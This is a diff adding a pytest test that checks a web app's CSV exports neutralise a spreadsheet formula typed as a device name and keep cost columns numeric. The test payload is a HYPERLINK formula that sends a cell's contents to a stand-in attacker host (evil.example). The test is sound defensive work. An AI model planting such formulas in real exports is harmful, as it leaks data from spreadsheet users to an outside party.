@@ -158,3 +158,42 @@ def test_the_json_twin(demo_cloud, built_demo) -> None:
     assert all(r["provider"] == "xai" for r in body["rows"])
     bad = client.get(f"/v1/{built_demo.slug}/audit/requests", params={"cursor": "forged"})
     assert bad.status_code == 422 and bad.json()["detail"].startswith("cursor")
+
+
+def test_every_csv_neutralises_a_formula_a_device_name_carries(demo_cloud, built_demo) -> None:
+    """A device's name is typed by an admin (or is the laptop's hostname): in each CSV the product serves it is
+    text a spreadsheet shows, never a formula it runs; costs stay numbers."""
+    project = "acme-batch-summariser"
+    ws = built_demo.slug
+    ((device_id,),) = built_demo.query(
+        "SELECT toString(device_id) FROM {marts}.requests WHERE workspace_id = '{ws}' AND project = %(p)s"
+        " AND day >= %(d)s ORDER BY started_at DESC, request_uid DESC LIMIT 1",
+        p=project, d=datetime.now(UTC).date() - timedelta(days=29),
+    )  # fmt: skip
+    with psycopg.connect(built_demo.database_url) as conn:
+        (original,) = conn.execute("SELECT name FROM devices WHERE id = %s", (device_id,)).fetchone()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    owner = signed_in(demo_cloud.url, built_demo.owner_email)
+    devices = f"/{ws}/settings/devices"
+
+    def exported(path: str) -> list[dict[str, str]]:
+        response = owner.get(path)
+        assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
+        return list(csv.DictReader(io.StringIO(response.text, newline="")))
+
+    try:
+        response = owner.post(
+            f"{devices}/{device_id}/rename", data={"csrf_token": csrf(owner, devices), "name": formula}
+        )
+        assert response.status_code == 303, response.text
+        for path in (f"/{ws}/projects/{project}/requests.csv", f"/{ws}/audit/requests.csv?project={project}"):
+            rows = exported(path)
+            assert rows[0]["device"] == "'" + formula, path
+            assert not [c for r in rows for c in r.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+            assert all(Decimal(r["cost_usd"]) >= 0 for r in rows)  # plain numbers, as they were
+        renamed = [r for r in exported(f"/{ws}/audit.csv?kind=device") if r["event"] == "device.renamed"]
+        assert renamed[0]["resource_label"] == "'" + formula
+    finally:
+        owner.close()
+        with psycopg.connect(built_demo.database_url) as conn:  # exactly as it was, for the other tests
+            conn.execute("UPDATE devices SET name = %s WHERE id = %s", (original, device_id))
